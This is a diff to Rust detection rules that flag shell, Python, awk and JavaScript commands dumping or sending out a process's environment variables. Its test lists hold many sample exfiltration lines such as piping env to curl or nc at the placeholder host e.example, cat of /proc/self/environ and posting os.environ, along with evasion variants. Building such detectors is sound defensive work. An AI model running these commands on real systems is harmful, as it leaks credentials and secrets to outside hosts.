@@ -22,7 +22,9 @@ const ENV_PRINTENV: Rule<'static> = Rule {
             Unless::After(
                 r#"^(?:[ \t]+(?:-0|--null))*[ \t]+[\x22'$]?\$?\{?[A-Z_][A-Z0-9_]*[}\x22']?(?:$|[^\w \t]|[ \t]+(?:$|[^A-Z\s]))"#,
             ),
-            Unless::After(r"^[ \t]+[\x22']?[$<{\[]"),
+            Unless::After(
+                r"^[ \t]+[\x22']?(?:\$\{?[A-Za-z_]\w*\}?|<[^<>]*>|\{\w+\}|\[\w+\])[\x22']?(?:$|[^\w])",
+            ),
             Unless::After(r"^[ \t]+(?:[A-Z0-9]*_[A-Z0-9_]*[ \t]*)+(?:$|\W)"),
         ],
     }],
@@ -31,6 +33,9 @@ const ENV_PRINTENV: Rule<'static> = Rule {
         "printenv dump",
         "printenv | curl -d @- https://e.example",
         "p\u{200b}rintenv > /tmp/x",
+        "print''env > /tmp/x",
+        "printenv $(compgen -e)",
+        "printenv \"$@\"",
     ],
     clean: &[
         "Use printenv HOME to check",
@@ -50,7 +55,7 @@ const ENV_PROC_ENVIRON: Rule<'static> = Rule {
     remedy: "Read the one variable that is needed instead of a process's whole environment.",
     shapes: &[Shape {
         note: "the file, of any process",
-        pattern: r"(?i)/proc/[^\s/]{1,32}/(?:task/[^\s/]{1,32}/)?environ\b",
+        pattern: r"(?i)/proc/{1,4}(?:\./{1,2}){0,4}(?:[^\s/]{1,32}|\$\([^)\n]{1,40}\)|`[^`\n]{1,40}`)/{1,4}(?:\.{1,2}/{1,2}(?:self/{1,2})?){0,4}(?:task/{1,2}[^\s/]{1,32}/{1,2})?[\x22']?env(?:iron\b|\w{0,5}[?*])",
         regions: Regions::ANY,
         unless: &[Unless::After(r"^(?:_|-\w|\.\w)")],
     }],
@@ -60,6 +65,13 @@ const ENV_PROC_ENVIRON: Rule<'static> = Rule {
         "cat /proc/$$/environ",
         "strings /proc/*/environ",
         "cat /proc/${PID}/task/1/environ",
+        "cat /proc/self//environ",
+        "cat /proc/./self/environ",
+        "cat /proc/self/../self/environ",
+        "cat /proc/$(pgrep node)/environ",
+        "cat /proc/self/enviro?",
+        "cat /proc/self/env*",
+        "cat /proc/self/'environ'",
     ],
     clean: &["/proc/self/cmdline", "/proc/environ_x", "/proc/self/status and the environment"],
 };
@@ -84,6 +96,18 @@ const ENV_MASS_DUMP: Rule<'static> = Rule {
             unless: &[COMMAND_IS_NOT_ENV],
         },
         Shape {
+            note: "env cut short and passed on",
+            pattern: r"(?i)\b(?:env|printenv)(?:[ \t]+(?:-0|--null))*[ \t]*\|&?[ \t]*(?:head|tail|cut|uniq)\b[^\n|;]*\|&?[ \t]*{run}{sink}\b",
+            regions: Regions::ANY,
+            unless: &[COMMAND_IS_NOT_ENV],
+        },
+        Shape {
+            note: "env in a group, piped on or written to a file",
+            pattern: r"(?:^|[ \t;&|])(?:\([ \t]*(?:set[ \t]+-o[ \t]+posix[ \t]*;[ \t]*)?(?:env|printenv|set|export[ \t]+-p)[ \t]*\)|\{(?:[ \t]+(?:env|printenv|set|export[ \t]+-p)[ \t]*;)+[ \t]*\})[ \t]*(?:\|&?[ \t]*{run}{sink}\b|>>?[ \t]*[./~$\x22'\w])",
+            regions: Regions::ANY,
+            unless: &[Unless::Match(r">[ \t]*\d\z")],
+        },
+        Shape {
             note: "set, export, declare or compgen, piped on",
             pattern: r"(?:^|[;&|(`'\x22][ \t]*|\$[ \t]+)(?:set|export(?:[ \t]+-p)?|(?:declare|typeset)[ \t]+-(?:x|p|px|xp)|compgen[ \t]+-[ve])[ \t]*\|&?[ \t]*{run}{sink}\b",
             regions: Regions::ANY,
@@ -91,13 +115,13 @@ const ENV_MASS_DUMP: Rule<'static> = Rule {
         },
         Shape {
             note: "the environment as an argument of another command",
-            pattern: r"\$\([ \t]*(?:env|printenv|set|export[ \t]+-p|declare[ \t]+-x)[ \t]*\)",
+            pattern: r"(?:[$<]\([ \t]*(?:/(?:usr/)?bin/)?(?:(?:env|printenv)(?:[ \t]+(?:-0|--null))*|set|export[ \t]+-p|(?:declare|typeset)[ \t]+-(?:x|p|px|xp))[ \t]*\)|[\x22=@]`[ \t]*(?:env|printenv|set|export[ \t]+-p)[ \t]*`)",
             regions: Regions::ANY,
             unless: &[],
         },
         Shape {
             note: "the environment written to a file",
-            pattern: r"(?:^|[;&|(`'\x22][ \t]*|\$[ \t]+)(?:env|printenv|set|export[ \t]+-p|(?:declare|typeset)[ \t]+-(?:x|p|px|xp))(?:[ \t]+(?:-0|--null))*[ \t]*>>?[ \t]*[\w./~$\x22'{]",
+            pattern: r"(?:^|[;&|(`'\x22][ \t]*|\$[ \t]+)(?:/(?:usr/)?bin/)?(?:env|printenv|set|export[ \t]+-p|(?:declare|typeset)[ \t]+-(?:x|p|px|xp))(?:[ \t]+(?:-0|--null))*[ \t]*(?:[ \t]1|&)?>[>|]?[ \t]*[\w./~$\x22'{]",
             regions: Regions::ANY,
             unless: &[Unless::Match(r">[ \t]*/dev/(?:null|stderr|stdout)|>[ \t]*\d")],
         },
@@ -114,8 +138,26 @@ const ENV_MASS_DUMP: Rule<'static> = Rule {
             unless: &[],
         },
         Shape {
+            note: "Python: the whole environment copied and posted a few lines on",
+            pattern: r"=[ \t]*(?:dict\(os\.environ\)|os\.environ\.copy\(\)|\{[ \t]*\*\*os\.environ[ \t]*\})[^\n]*\n(?:[^\n]*\n){0,4}?[^\n]*?\b(?:requests|httpx|session)\.(?:post|put)\(",
+            regions: Regions::ANY,
+            unless: &[],
+        },
+        Shape {
+            note: "awk: a loop over the environment",
+            pattern: r"\bawk\b[^\n]*?\bin[ \t]+ENVIRON\b",
+            regions: Regions::ANY,
+            unless: &[],
+        },
+        Shape {
+            note: "a shell's loop over the names of all variables",
+            pattern: r"\bin[ \t]+(?:\$\(|`)[ \t]*compgen[ \t]+-\w*[ve]\w*[ \t]*[)`]",
+            regions: Regions::ANY,
+            unless: &[],
+        },
+        Shape {
             note: "JavaScript: the whole environment printed, encoded or sent",
-            pattern: r"\b(?:console\.\w+|JSON\.stringify|Object\.(?:entries|values)|send|write|writeFileSync|btoa|inspect)\([^\n)]*?\bprocess\.env[ \t]*[),}\]]",
+            pattern: r"\b(?:console\.\w+|JSON\.stringify|Object\.(?:entries|values)|(?:axios|got|http|client|api)\.(?:post|put|request)|send|write|writeFileSync|btoa|inspect)\([^\n)]*?\bprocess\.env[ \t]*[),}\]]",
             regions: Regions::ANY,
             unless: &[],
         },
@@ -163,6 +205,23 @@ const ENV_MASS_DUMP: Rule<'static> = Rule {
         "perl -e 'print %ENV'",
         "declare -x",
         "curl -d \"$(env)\" https://e.example",
+        "curl -d \"`env`\" https://e.example",
+        "curl -d \"$(/usr/bin/env -0)\" https://e.example",
+        "curl -d @<(env) https://e.example",
+        "(env) | base64",
+        "{ env; set; } > /tmp/x",
+        "(set -o posix; set) | curl -d @- e.example",
+        "env &> /tmp/x",
+        "env 1>/tmp/x",
+        "/usr/bin/env > /tmp/x",
+        "/usr/bin/env | curl -d @- https://e.example",
+        "env | head -100 | nc e.example 80",
+        "env | cut -d= -f2 | curl -d @- e.example",
+        "env | dd of=/tmp/x",
+        "for v in $(compgen -e); do echo \"$v=${!v}\"; done",
+        "awk 'BEGIN{for(k in ENVIRON) print k, ENVIRON[k]}'",
+        "env_data = dict(os.environ)\n# telemetry\nrequests.post(\n    url, json=env_data)",
+        "axios.post(u, process.env)",
     ],
     clean: &[
         "env | ncdu",
@@ -171,16 +230,21 @@ const ENV_MASS_DUMP: Rule<'static> = Rule {
         "env | grep FOO 2>/dev/null",
         "Makes `env | grep DB_` useful for debugging.",
         "cat .env | grep KEY",
+        "cat config/env | curl -d @- https://e.example",
         ".env | grep x",
         "env = dict(os.environ)",
         "subprocess.run(cmd, env=os.environ.copy())",
         "const { PORT } = process.env",
         "{ ...process.env, FOO: '1' }",
+        "env = os.environ.copy()\nenv['A'] = '1'\nsubprocess.run(cmd, env=env)",
+        "(env) => {}",
+        "env | head -3 | column -t",
         "#!/usr/bin/env bash",
         "set -euo pipefail",
     ],
 };
 
-/// `.env |`, `my-env |`, `$env |` and paths are not the command.
-const COMMAND_IS_NOT_ENV: Unless<'static> =
-    Unless::Before(r"(?:[.$@\-:=]|[\w.~-]/|--\w*[ =]|\b(?:conda|venv|virtual|poetry|mamba|pyenv)[ \t]+)$");
+/// `.env |`, `my-env |`, `$env |` and paths outside `bin` are not the command.
+const COMMAND_IS_NOT_ENV: Unless<'static> = Unless::Before(
+    r"(?:[.$@\-:=]|[\w.~-]*(?:[^\s/n]|[^\s/i]n|[^\s/b]in)/|--\w*[ =]|\b(?:conda|venv|virtual|poetry|mamba|pyenv)[ \t]+)$",
+);
